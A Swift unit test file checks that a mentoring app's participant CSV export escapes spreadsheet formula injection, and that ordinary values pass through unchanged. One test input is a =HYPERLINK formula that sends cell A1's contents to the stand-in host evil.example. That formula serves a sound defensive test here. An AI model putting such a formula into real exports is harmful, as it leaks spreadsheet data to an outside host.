import Foundation
@testable import MentorMail
import Testing

@Suite struct ParticipantExportTests {
    func participant(name: String, aboutMe: String = "") -> Participant {
        Participant(email: "eve@example.org",
                    profile: ParticipantProfile(role: "mentee", name: name, mentoringTypes: ["technical"], areas: ["nova"],
                                                timeZone: "Europe/Berlin", languages: ["en"], interactions: ["email"], capacity: 0,
                                                aboutMe: aboutMe),
                    source: "email", at: Date(timeIntervalSince1970: 0))
    }

    @Test func aValueASpreadsheetWouldRunAsAFormulaIsExportedAsText() {
        let csv = ParticipantView.csv([participant(name: #"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#, aboutMe: "@SUM(1+1)")])
        let row = csv.split(separator: "\r\n")[1]
        #expect(row.hasPrefix(#"eve@example.org,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")","#))
        #expect(row.contains(",'@SUM(1+1)"))
        for first in ["+", "-", "\t"] {
            #expect(ParticipantView.csvField(first + "1") == "'" + first + "1")
        }
        #expect(ParticipantView.csvField("\r1") == "\"'\r1\"")
    }

    @Test func ordinaryValuesAreExportedAsWritten() {
        #expect(ParticipantView.csvField("Ana García") == "Ana García")
        #expect(ParticipantView.csvField("Nova, Cinder") == "\"Nova, Cinder\"")
        #expect(ParticipantView.csvField("a=b") == "a=b")
        #expect(ParticipantView.csvField("") == "")
    }
}
